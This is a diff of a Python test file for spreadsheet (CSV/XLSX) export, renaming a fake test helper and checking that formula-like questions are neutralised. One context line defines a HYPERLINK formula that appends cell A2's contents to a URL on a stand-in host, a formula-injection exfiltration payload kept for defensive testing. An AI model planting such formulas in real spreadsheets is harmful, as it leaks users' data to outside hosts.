@@ -12,7 +12,7 @@ from hypothesis import strategies as st
 from openpyxl import load_workbook
 from openpyxl.worksheet.worksheet import Worksheet
 
-from tests.ui import fake
+from tests.ui import fake_assistant
 from ui import spreadsheets, table
 from ui.spreadsheets import LONGEST_CELL, Format
 from ui.table import Table
@@ -22,7 +22,7 @@ LINK = 'HYPERLINK("http://elsewhere.example/?"&A2,"here")'
 
 
 def tasks() -> Table:
-    made = table.table(fake.tasks("市商务局牵头哪些任务？"))
+    made = table.table(fake_assistant.tasks("市商务局牵头哪些任务？"))
     assert made is not None
     return made
 
@@ -65,7 +65,7 @@ def test_xlsx_takes_no_text_for_an_error_a_number_or_a_date(text: str) -> None:
 
 
 def test_a_question_that_is_a_formula_is_harmless_below_the_table_too() -> None:
-    made = table.table(fake.tasks("=1+1 哪些"))
+    made = table.table(fake_assistant.tasks("=1+1 哪些"))
     assert made is not None
     assert read_csv(spreadsheets.written(made, Format.CSV))[-2] == ["问题", "'=1+1 哪些"]
     cell = read_xlsx(spreadsheets.written(made, Format.XLSX))["B5"]
@@ -118,7 +118,7 @@ def test_xlsx_has_the_table_its_remarks_and_its_layout() -> None:
 
 @given(st.text())
 def test_any_question_can_be_written_and_is_read_back(question: str) -> None:
-    made = table.table(fake.tasks(question))
+    made = table.table(fake_assistant.tasks(question))
     assert made is not None
     said = read_csv(spreadsheets.written(made, Format.CSV))[-2][1]
     assert said in (made.title, f"'{made.title}")
